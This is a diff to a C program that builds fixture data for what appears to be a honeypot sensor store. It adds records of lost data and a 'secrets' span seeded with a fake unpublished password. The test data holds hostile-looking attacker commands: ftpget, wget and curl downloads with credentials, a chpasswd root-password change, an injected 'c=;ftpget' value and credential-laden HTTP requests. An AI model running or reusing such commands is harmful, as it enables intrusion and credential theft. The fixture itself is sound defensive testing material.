@@ -1,6 +1,7 @@
-/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1.
+/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1; or, asked for
+ * secrets, one span in which every way carries a password that is in no published list, or a monitored address.
  *
- * In:  the folder of the store; a database of countries, or nothing. Out: exit status 1 and a message
+ * In:  the folder of the store; a database of countries, or nothing; "secrets", or nothing. Out: exit status 1 and a message
  *      when it cannot be made. Nobody's packets: every row is written here. */
 #include <stdio.h>
 #include <stdlib.h>
@@ -16,13 +17,15 @@ struct span {
     size_t used;
     struct conversation_row conversations[LIMIT];
     struct payload_row payloads[LIMIT];
+    struct text_ref signatures[LIMIT]; /* of each of them */
     struct payload_event_row payload_events[LIMIT];
     struct login_row logins[LIMIT];
     struct command_row commands[LIMIT];
     struct download_row downloads[LIMIT];
     struct event_row events[LIMIT];
+    struct unheard_row unheard[LIMIT];
     struct heard_rows rows;
-    size_t event_count;
+    size_t event_count, unheard_count;
     uint32_t hour;
 };
 
@@ -108,9 +111,9 @@ static void download(struct span *s, uint32_t second, const char *source, uint16
 static void content(struct span *s, uint8_t id, struct text_ref bytes, bool cut,
                     const char *signatures)
 {
-    struct payload_row row = {
-        .bytes = bytes, .cut = cut, .signatures = keep(s, signatures, strlen(signatures))};
+    struct payload_row row = {.bytes = bytes, .cut = cut};
     memset(row.id, id, sizeof row.id);
+    s->signatures[s->rows.payload_count] = keep(s, signatures, strlen(signatures));
     s->payloads[s->rows.payload_count++] = row;
 }
 
@@ -120,6 +123,9 @@ static void said(struct span *s, uint32_t second, const char *source, uint16_t p
     struct payload_event_row row = {
         .time_us = at(s, second), .talk = from(source, port), .packets = packets};
     memset(row.id, id, sizeof row.id);
+    while (s->payloads[row.payload].id[0] != id)
+        row.payload++;
+    row.signatures = s->signatures[row.payload];
     s->payload_events[s->rows.payload_event_count++] = row;
 }
 
@@ -132,6 +138,15 @@ static void event(struct span *s, uint32_t from_s, uint32_t until_s, enum sensor
                               .event = (uint8_t)event,
                               .packets = packets};
     snprintf(row->detail, sizeof row->detail, "%s", detail);
+}
+
+static void lost(struct span *s, uint32_t minute, enum unheard_what what, enum unheard_why why,
+                 uint64_t records)
+{
+    s->unheard[s->unheard_count++] = (struct unheard_row){.from_us = at(s, minute * S_PER_MINUTE),
+                                                          .what = (uint8_t)what,
+                                                          .why = (uint8_t)why,
+                                                          .records = records};
 }
 
 #define HTTP_REQUEST                                                                               \
@@ -186,6 +201,10 @@ static void second_span(struct span *s)
     said(s, 15, "192.0.2.9", 80, 0xaa, 1);
     said(s, 40, "198.51.100.7", 37215, 0xcc, 1);
     event(s, 100, 100, EVENT_RELOAD, 0, "addresses");
+    lost(s, 0, UNHEARD_PAYLOAD, UNHEARD_SHARE, 1000);
+    lost(s, 1, UNHEARD_PAYLOAD, UNHEARD_FULL, 234);
+    lost(s, 1, UNHEARD_LOGIN, UNHEARD_FULL, 2);
+    lost(s, 1, UNHEARD_SIGNATURE, UNHEARD_SLOW, 7);
 }
 
 static void other_sensor(struct span *s)
@@ -194,6 +213,65 @@ static void other_sensor(struct span *s)
     talk_to(s, 10, "198.51.100.8", 23, 5, false);
     login(s, 11, "198.51.100.8", KEEP(s, "admin"), KEEP(s, "admin"), LOGIN_LIST_MIRAI, false);
     event(s, 60, 120, EVENT_DISK_FULL, 6, "no space left on device");
+    lost(s, 1, UNHEARD_CONVERSATION, UNHEARD_BUSY, 40);
+    lost(s, 2, UNHEARD_COMMAND, UNHEARD_UNWRITTEN, 3);
+    lost(s, 2, UNHEARD_LOGIN, UNHEARD_UNWRITTEN, 1);
+}
+
+/* Unpublished, and monitored: what no answer may show. */
+#define PASSWORD "Zx7-unpublished-9q"
+#define ESCAPED  "%5A%78%37%2D%75%6E%70%75%62%6C%69%73%68%65%64%2D%39%71"
+#define BASIC    "YWRtaW46Wng3LXVucHVibGlzaGVkLTlx" /* admin:PASSWORD */
+#define SENSOR   "203.0.113.5"
+
+static void secret_content(struct span *s, uint8_t id, uint16_t port, const char *text,
+                           bool dialogue)
+{
+    content(s, id, keep(s, text, strlen(text)), false, "");
+    s->payloads[s->rows.payload_count - 1].dialogue = dialogue;
+    said(s, id, "192.0.2.9", port, id, 1);
+}
+
+static void secrets(struct span *s)
+{
+    static const char *const contents[] = {
+        "USER admin\r\nPASS " PASSWORD "\r\n",
+        "a1 LOGIN admin " PASSWORD "\r\n",
+        "GET / HTTP/1.0\r\nAuthorization: Basic " BASIC "\r\n\r\n",
+        "POST /login HTTP/1.0\r\n\r\nuser=admin&password=" PASSWORD "&x=1",
+        "psd=" ESCAPED "&x=1",
+        "{\"user\":\"admin\",\"password\":\"" PASSWORD "\"}",
+        "GET http://admin:" PASSWORD "@" SENSOR "/ HTTP/1.1\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: " SENSOR "\r\n\r\n",
+        "GET /?url=http://" SENSOR "/ HTTP/1.1\r\nHost: 198.51.100.77\r\n\r\n",
+        "c=;ftpget+-u+a+-p+" PASSWORD "+192.0.2.9+x+x",
+        "EHLO x\r\nAUTH PLAIN " BASIC "\r\n",
+    };
+    static const char *const commands[] = {
+        "ftpget -u admin -p " PASSWORD " 192.0.2.9 x x",
+        "wget --user=admin --password=" PASSWORD " http://192.0.2.9/x",
+        "curl -u admin:" PASSWORD " http://192.0.2.9/x",
+        "wget http://admin:" PASSWORD "@192.0.2.9/x",
+        "echo root:" PASSWORD "|chpasswd",
+        "wget http://" SENSOR "/x",
+    };
+    static const char *const with_user[] = {"http://admin:" PASSWORD "@192.0.2.9/x", "192.0.2.9",
+                                            "x", ""};
+    static const char *const with_value[] = {"http://192.0.2.9/x?pwd=" PASSWORD, "192.0.2.9",
+                                             "x?pwd=" PASSWORD, ""};
+    static const char *const of_sensor[] = {"http://" SENSOR "/x", SENSOR, "x", ""};
+    s->hour = 9;
+    talk_to(s, 10, "192.0.2.9", 23, 120, true);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, PASSWORD), LOGIN_LIST_NONE, true);
+    login(s, 12, "192.0.2.9", KEEP(s, "admin"), KEEP(s, PASSWORD), LOGIN_LIST_OWN, true);
+    secret_content(s, 0xee, 23, "root\r\n" PASSWORD "\r\nenable\r\n", true);
+    for (size_t i = 0; i < sizeof contents / sizeof contents[0]; i++)
+        secret_content(s, (uint8_t)(i + 1), 80, contents[i], false);
+    for (uint32_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
+        command(s, 20 + i, "192.0.2.9", keep(s, commands[i], strlen(commands[i])), KEEP(s, ""));
+    download(s, 31, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_user);
+    download(s, 32, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_value);
+    download(s, 33, "192.0.2.9", 23, DOWNLOAD_WGET, false, of_sensor);
 }
 
 static void point_rows(struct span *s)
@@ -223,6 +301,8 @@ static bool write_span(const struct ingest_options *options, struct span *s, str
         return false;
     bool good = ingest_add(ingest, &packets, error) && ingest_add_heard(ingest, &s->rows, error) &&
                 ingest_add_events(ingest, DAY, s->events, s->event_count, error) &&
+                (s->unheard_count == 0 ||
+                 ingest_add_unheard(ingest, DAY, s->unheard, s->unheard_count, error)) &&
                 ingest_finish(ingest, NULL, 0, true, error);
     ingest_destroy(ingest);
     return good;
@@ -236,13 +316,16 @@ int main(int argc, char **argv)
         void (*fill)(struct span *s);
     } spans[] = {{"tokyo-1", "live-1", first_span},
                  {"tokyo-1", "live-2", second_span},
-                 {"osaka-1", "live-3", other_sensor}};
+                 {"osaka-1", "live-3", other_sensor},
+                 {"tokyo-1", "live-4", secrets}};
+    enum { SECRETS = sizeof spans / sizeof spans[0] - 1 };
+    const size_t first = argc > 3 ? SECRETS : 0, end = argc > 3 ? SECRETS + 1 : SECRETS;
     struct error error = {0};
     const char *files[] = {argc > 2 ? argv[2] : NULL};
     const struct geo_options geo_options = {.files = files, .file_count = argc > 2};
     struct geo *geo = argc > 1 ? geo_create(&geo_options, &error) : NULL;
     bool good = geo != NULL;
-    for (size_t i = 0; i < sizeof spans / sizeof spans[0] && good; i++) {
+    for (size_t i = first; i < end && good; i++) {
         const struct ingest_options options = {.store = argv[1],
                                                .sensor = spans[i].sensor,
                                                .input_name = "live:eth0",
